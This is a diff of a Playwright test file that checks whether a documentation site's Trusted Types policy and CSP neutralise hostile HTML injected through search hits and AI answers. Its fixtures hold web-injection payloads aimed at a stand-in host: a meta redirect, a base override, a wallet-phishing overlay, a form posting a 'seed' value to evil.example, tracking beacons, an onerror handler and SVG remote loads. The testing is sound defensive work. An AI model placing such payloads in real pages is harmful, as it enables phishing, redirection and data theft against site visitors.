@@ -1,32 +1,37 @@
 /**
  * Hostile content from the hosted services: Algolia hits and an Ask AI answer carrying HTML that
- * tries to redirect (meta refresh, base), restyle the page, draw an overlay, post a form and load
- * a beacon. The Trusted Types default policy (src/lib/trustedTypes.ts) must make all of it inert.
+ * tries to run script, redirect (meta refresh, base), restyle the page, draw an overlay, post a
+ * form and load from elsewhere (a beacon, SVG filters and paints). The Trusted Types default policy
+ * (src/lib/trustedTypes.ts) must make all of it inert, with the CSP of static/_headers and without it.
+ *
+ * What is checked is what a reader would meet, not the attack's own ids (the sanitiser renames
+ * ids, so a check by id never ran): any element a hit or an answer added that sits outside its box,
+ * covers a quarter of the viewport or is positioned over the page; any element that loads, posts,
+ * redirects or runs, recorded as it enters the live document; any request to the attacker's hosts.
+ * The last test shows that this check fails when the sanitiser lets the same HTML through.
  */
-import type {Page, Route} from '@playwright/test';
+import type {Page} from '@playwright/test';
 import {test, expect} from '../../support/fixtures';
 import {waitForHydration} from '../../support/page';
+import {CORS, preflight, routeAskAiChat, sse} from './ask-ai-routes';
 
 const SEARCH_HOSTS = /^https:\/\/testapp123(-dsn\.algolia\.net|-\d\.algolianet\.com)\//i;
-const ASK_AI = 'https://askai.algolia.com/chat';
-const CORS = {'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': 'GET, POST, OPTIONS'};
 const BEACON = 'https://www.googletagmanager.com/beacon.gif';
+const OVERLAY_TEXT = 'Reconnect your wallet';
 
 const HOSTILE = [
   '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
   '<base href="https://evil.example/">',
   '<style>.navbar{display:none!important}body{background:red!important}</style>',
-  '<div id="overlay-style" style="position:fixed;inset:0;z-index:2147483647;background:#000;color:#fff">Reconnect your wallet</div>',
-  '<div id="overlay-class" class="DocSearch-Container">Reconnect your wallet now</div>',
+  `<div id="overlay-style" style="position:fixed;inset:0;z-index:2147483647;background:#000;color:#fff">${OVERLAY_TEXT}</div>`,
+  `<div id="overlay-class" class="DocSearch-Container">${OVERLAY_TEXT} now</div>`,
   '<form id="hostile-form" action="https://evil.example/steal" method="post"><input name="seed" value="x"><button id="hostile-submit">Go</button></form>',
   `<img id="beacon" src="${BEACON}?leak=1">`,
+  '<img src="x" onerror="window.__hostileRan = true">',
+  '<svg width="10" height="10"><filter id="f"><feImage href="https://evil.example/feimage.png"/></filter><rect width="10" height="10" filter="url(#f)"/></svg>',
+  '<svg width="10" height="10"><rect width="10" height="10" fill="url(https://evil.example/paint.svg#p)"/></svg>',
+  '<svg width="10" height="10"><pattern id="p" href="https://evil.example/pattern.svg#q"/></svg>',
 ].join('');
-
-async function preflight(route: Route): Promise<boolean> {
-  if (route.request().method() !== 'OPTIONS') return false;
-  await route.fulfill({status: 204, headers: CORS});
-  return true;
-}
 
 function hostileHit(origin: string) {
   const url = `${origin}/building-on-etherlink/websockets`; // on the site: hits elsewhere are not offered
@@ -44,6 +49,15 @@ function hostileHit(origin: string) {
   };
 }
 
+/**
+ * DOMPurify parses a hit in an inert document that shares the page's CSP, before it drops what it
+ * drops: Chromium reports the <base> and the inline handlers it meets there, and runs none of them.
+ */
+function allowParseReports(allowCspViolation: (pattern: RegExp) => void) {
+  allowCspViolation(/^base-uri blocked https:\/\/evil\.example\//);
+  allowCspViolation(/^script-src-attr blocked inline/);
+}
+
 /** Records every request that leaves for a host the attack wants. */
 function watchLeaks(page: Page): string[] {
   const leaks: string[] = [];
@@ -52,6 +66,26 @@ function watchLeaks(page: Page): string[] {
     if (url.startsWith(BEACON) || url.includes('evil.example')) leaks.push(url);
   });
   return leaks;
+}
+
+/**
+ * Records, from the page's start, every element that could load, post, redirect or restyle as it
+ * enters the live document: such an element acts as soon as it is there, whatever removes it later.
+ */
+async function recordDangerousElements(page: Page) {
+  await page.addInitScript(() => {
+    const DANGEROUS = 'meta[http-equiv], base, form, img, image, feImage, iframe, object, embed, link, [onerror], [onload]';
+    const seen: string[] = [];
+    (window as unknown as {__dangerous: string[]}).__dangerous = seen;
+    const check = (node: Node) => {
+      if (!(node instanceof Element)) return;
+      for (const element of [node, ...Array.from(node.querySelectorAll(DANGEROUS))]) {
+        // The site's own images and links (logo, icons, stylesheets) are in the page before any hit.
+        if (element.matches(DANGEROUS) && element.closest('.DocSearch-Dropdown, .DocSearch-Hits, .DocSearch-AskAiScreen')) seen.push(element.outerHTML.slice(0, 120));
+      }
+    };
+    new MutationObserver((records) => records.forEach((record) => record.addedNodes.forEach(check))).observe(document, {childList: true, subtree: true});
+  });
 }
 
 async function routeServices(page: Page, answer: string) {
@@ -67,68 +101,94 @@ async function routeServices(page: Page, answer: string) {
       body: JSON.stringify({results: [{hits: [hostileHit(new URL(page.url()).origin)], nbHits: 1, page: 0, nbPages: 1, hitsPerPage: 20, exhaustiveNbHits: true, query, params: '', index: 'etherlink-test', processingTimeMS: 1}]}),
     });
   });
-  const token = `${Buffer.from(JSON.stringify({exp: Math.floor(Date.now() / 1000) + 3600})).toString('base64')}.sig`;
-  await page.route(`${ASK_AI}/**`, async (route) => {
-    if (await preflight(route)) return;
-    await route.fulfill({status: 200, contentType: 'application/json', headers: CORS, body: JSON.stringify({success: true, token})});
-  });
-  await page.route(ASK_AI, async (route) => {
-    if (await preflight(route)) return;
-    await route.fulfill({status: 200, headers: {...CORS, 'content-type': 'text/event-stream', 'x-vercel-ai-ui-message-stream': 'v1'}, body: answer});
-  });
+  await routeAskAiChat(page, answer);
 }
 
-function sse(chunks: object[]): string {
-  return `${chunks.map((chunk) => `data: ${JSON.stringify(chunk)}\n\n`).join('')}data: [DONE]\n\n`;
+/** What a reader would meet of the hostile HTML: each finding says what and where. */
+async function readerVisibleAttacks(page: Page): Promise<string[]> {
+  return page.evaluate((overlayText) => {
+    const found: string[] = [];
+    const viewport = window.innerWidth * window.innerHeight;
+    // The boxes hostile content renders into: a hit's section, title, path and snippet, and an answer.
+    const boxes = Array.from(document.querySelectorAll('.DocSearch-Hit-source, .DocSearch-Hit-title, .DocSearch-Hit-path, .DocSearch-Hit-content-wrapper, .DocSearch-Markdown-Content'));
+    for (const box of boxes) {
+      const outer = box.getBoundingClientRect();
+      for (const element of Array.from(box.querySelectorAll('*'))) {
+        const style = getComputedStyle(element);
+        const rect = element.getBoundingClientRect();
+        const where = `${element.tagName.toLowerCase()} in ${box.className}`;
+        if (style.position === 'fixed' || style.position === 'absolute' || style.position === 'sticky') found.push(`${where} is positioned ${style.position}`);
+        if (rect.width * rect.height > viewport / 4) found.push(`${where} covers ${Math.round((100 * rect.width * rect.height) / viewport)}% of the viewport`);
+        const outside = rect.width > 0 && rect.height > 0 && (rect.left < outer.left - 1 || rect.top < outer.top - 1 || rect.right > outer.right + 1 || rect.bottom > outer.bottom + 1);
+        if (outside && style.overflow === 'visible' && box.contains(element) && getComputedStyle(box).overflow === 'visible') found.push(`${where} is drawn outside its box`);
+      }
+    }
+    // The overlay's text, wherever it landed: only inside those boxes, in the normal flow.
+    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
+      if (!node.textContent?.includes(overlayText)) continue;
+      const parent = node.parentElement!;
+      if (!boxes.some((box) => box.contains(parent))) found.push(`"${overlayText}" shown outside a hit or an answer, in ${parent.tagName.toLowerCase()}.${parent.className}`);
+    }
+    // Anything outside the dialog drawn over the page that the site did not draw before.
+    for (const element of Array.from(document.body.querySelectorAll('body > *:not(#__docusaurus):not(.DocSearch-Container)'))) {
+      const style = getComputedStyle(element);
+      if (style.position === 'fixed' && element.getBoundingClientRect().width * element.getBoundingClientRect().height > viewport / 4) found.push(`${element.tagName.toLowerCase()} drawn over the page outside the dialog`);
+    }
+    if (getComputedStyle(document.body).backgroundColor === 'rgb(255, 0, 0)') found.push('the page background turned red');
+    if (getComputedStyle(document.querySelector('.navbar')!).display === 'none') found.push('the navbar is hidden');
+    if ((window as unknown as {__hostileRan?: boolean}).__hostileRan) found.push('an event handler in the hit ran');
+    return found;
+  }, OVERLAY_TEXT);
 }
 
 /** Nothing the hostile HTML asked for happened. */
-async function expectInert(page: Page, leaks: string[]) {
-  const start = page.url();
-  await page.waitForTimeout(1_500); // a meta refresh of 0 s would have fired by now
+async function expectInert(page: Page, leaks: string[], start: string) {
+  expect(await readerVisibleAttacks(page)).toEqual([]);
+  expect(await page.evaluate(() => (window as unknown as {__dangerous: string[]}).__dangerous)).toEqual([]);
   expect(page.url()).toBe(start);
-  const found = await page.evaluate(() => ({
-    meta: document.querySelectorAll('meta[http-equiv="refresh" i]').length,
-    base: document.querySelectorAll('body base, base[href*="evil"]').length,
-    forms: document.querySelectorAll('#hostile-form, form[action*="evil"]').length,
-    // The hostile rules, wherever a <style> holding them landed (the page's own styles may sit in <body>).
-    styles: Array.from(document.querySelectorAll('style'), (el) => el.textContent ?? '').filter((css) =>
-      /\.navbar\{display:none|background:red/.test(css),
-    ).length,
-    styled: document.querySelectorAll('#overlay-style[style], .DocSearch-Modal [style*="fixed"]').length,
-    images: document.querySelectorAll('#beacon, img[src*="beacon"]').length,
-    navbarShown: getComputedStyle(document.querySelector('.navbar')!).display !== 'none',
-    background: getComputedStyle(document.body).backgroundColor,
-  }));
-  expect(found).toMatchObject({meta: 0, base: 0, forms: 0, styles: 0, styled: 0, images: 0, navbarShown: true});
-  expect(found.background).not.toBe('rgb(255, 0, 0)');
-  // An overlay drawn with the site's own classes stays inside the dialog's content.
-  for (const id of ['#overlay-style', '#overlay-class']) {
-    const overlay = page.locator(id);
-    if ((await overlay.count()) === 0) continue;
-    const box = await overlay.first().boundingBox();
-    const viewport = page.viewportSize()!;
-    if (box) expect(box.width * box.height, id).toBeLessThan((viewport.width * viewport.height) / 4);
-  }
   expect(leaks).toEqual([]);
 }
 
+async function searchHostile(page: Page, origin = '') {
+  await page.goto(`${origin}/`);
+  await waitForHydration(page);
+  await page.keyboard.press('ControlOrMeta+k');
+  await page.locator('.DocSearch-Input').fill('websockets');
+  await expect(page.locator('.DocSearch-Hit', {hasText: 'Safe title'}).first()).toBeVisible();
+}
+
 test.describe('hostile content from the hosted services', () => {
+  test.beforeEach(async ({page}) => {
+    await recordDangerousElements(page);
+  });
+
   test('hostile search hits change nothing and go nowhere', async ({page, allowCspViolation}) => {
-    // The sanitiser parses the hit before it drops <base>; the CSP's base-uri refuses it meanwhile.
-    allowCspViolation(/^base-uri blocked https:\/\/evil\.example\//);
+    allowParseReports(allowCspViolation);
     const leaks = watchLeaks(page);
     await routeServices(page, sse([]));
-    await page.goto('/');
-    await waitForHydration(page);
-    await page.keyboard.press('ControlOrMeta+k');
-    await page.locator('.DocSearch-Input').fill('websockets');
-    await expect(page.locator('.DocSearch-Hit', {hasText: 'Safe title'}).first()).toBeVisible();
-    await expectInert(page, leaks);
+    await searchHostile(page);
+    await expectInert(page, leaks, page.url());
+  });
+
+  test('hostile search hits stay inert on a host that ignores _headers (no CSP header at all)', async ({page}) => {
+    // serve.mjs has top-level await (its command line): imported, not required.
+    const {startServer} = await import('../../support/serve.mjs');
+    const server = (await startServer({root: process.env.E2E_HOSTED_BUILD_DIR ?? 'build-hosted', headersFile: '/nonexistent/_headers'})) as {url: string; close: () => Promise<void>};
+    try {
+      const leaks = watchLeaks(page);
+      await routeServices(page, sse([]));
+      const response = await page.request.get(`${server.url}/`);
+      expect(response.headers()['content-security-policy']).toBeUndefined();
+      await searchHostile(page, server.url);
+      await expectInert(page, leaks, `${server.url}/`);
+    } finally {
+      await server.close();
+    }
   });
 
   test('a hostile Ask AI answer changes nothing and goes nowhere', async ({page, allowCspViolation}) => {
-    allowCspViolation(/^base-uri blocked https:\/\/evil\.example\//);
+    allowParseReports(allowCspViolation);
     const leaks = watchLeaks(page);
     await routeServices(
       page,
@@ -142,13 +202,55 @@ test.describe('hostile content from the hosted services', () => {
         {type: 'finish'},
       ]),
     );
-    await page.goto('/');
-    await waitForHydration(page);
-    await page.keyboard.press('ControlOrMeta+k');
+    await searchHostile(page);
     await page.locator('.DocSearch-Input').fill('how do I connect');
     await page.locator('.DocSearch-Hit:has(.DocSearch-Hit--AskAI)').click();
     await expect(page.getByText('The end.')).toBeVisible();
-    await expectInert(page, leaks);
+    await expectInert(page, leaks, page.url());
+  });
+
+  test('the check sees an overlay when the sanitiser lets it through', async ({page, allowCspViolation}) => {
+    allowParseReports(allowCspViolation);
+    await routeServices(page, sse([]));
+    await searchHostile(page);
+    expect(await readerVisibleAttacks(page)).toEqual([]);
+    // What a sanitiser that kept style attributes and elements would render in the hit's title
+    // (built node by node: the page's Trusted Types refuse the HTML itself, as they should).
+    await page.evaluate((text) => {
+      const overlay = document.createElement('div');
+      overlay.setAttribute('style', 'position:fixed;inset:0;z-index:2147483647;background:#000;color:#fff');
+      overlay.textContent = text;
+      const restyle = document.createElement('style');
+      restyle.textContent = '.navbar{display:none!important}';
+      document.querySelector('.DocSearch-Hit-title')!.append(overlay, restyle);
+    }, OVERLAY_TEXT);
+    const found = await readerVisibleAttacks(page);
+    expect(found).toContainEqual(expect.stringMatching(/positioned fixed/));
+    expect(found).toContain('the navbar is hidden');
+  });
+
+  test('the default policy, in the browser: nothing that loads, and deep HTML as text', async ({page, allowCspViolation}) => {
+    allowParseReports(allowCspViolation);
+    await page.route('https://www.googletagmanager.com/**', (route) => route.fulfill({status: 200, contentType: 'text/javascript', body: ''}));
+    await page.goto('/');
+    const clean = (html: string) => page.evaluate((h) => String((window as unknown as {trustedTypes: {defaultPolicy: {createHTML: (s: string) => unknown}}}).trustedTypes.defaultPolicy.createHTML(h)), html);
+    expect(await clean('<svg><filter id="f"><feImage href="https://evil.example/a.png"/></filter></svg>')).not.toMatch(/feimage|evil/i);
+    expect(await clean('<svg><rect fill="url(https://evil.example/p.svg#p)" stroke="red"/></svg>')).toBe('<svg><rect stroke="red"></rect></svg>');
+    expect(await clean('<svg><rect fill="u\\72 l(https://evil.example/p.svg#p)"/></svg>')).toBe('<svg><rect></rect></svg>');
+    expect(await clean('<svg><pattern href="https://evil.example/q.svg#q"/><linearGradient href="#h"/></svg>')).toBe('<svg><pattern></pattern><linearGradient href="#h"></linearGradient></svg>');
+    expect(await clean('<div class="DocSearch-Container navbar">x</div><pre><code class="language-bash">ls</code></pre>')).toBe('<div>x</div><pre><code class="language-bash">ls</code></pre>');
+    expect(await clean('<div class="DocSearch-CodeSnippet"><button class="DocSearch-CodeSnippet-CopyButton">Copy</button></div>')).toBe(
+      '<div class="DocSearch-CodeSnippet"><button class="DocSearch-CodeSnippet-CopyButton">Copy</button></div>',
+    );
+    // 20,000 nested <div>s: parsing them alone took 2.3 s; they come back as their text, at once.
+    const deep = await page.evaluate(() => {
+      const html = `${'<div>'.repeat(20_000)}deep text${'</div>'.repeat(20_000)}`;
+      const start = performance.now();
+      const out = String((window as unknown as {trustedTypes: {defaultPolicy: {createHTML: (s: string) => unknown}}}).trustedTypes.defaultPolicy.createHTML(html));
+      return {ms: performance.now() - start, hasTags: out.includes('<'), text: out.trim()};
+    });
+    expect(deep).toMatchObject({hasTags: false, text: 'deep text'});
+    expect(deep.ms).toBeLessThan(100);
   });
 
   test('a Trusted Types violation is reported to the suite', async ({page, problems}) => {
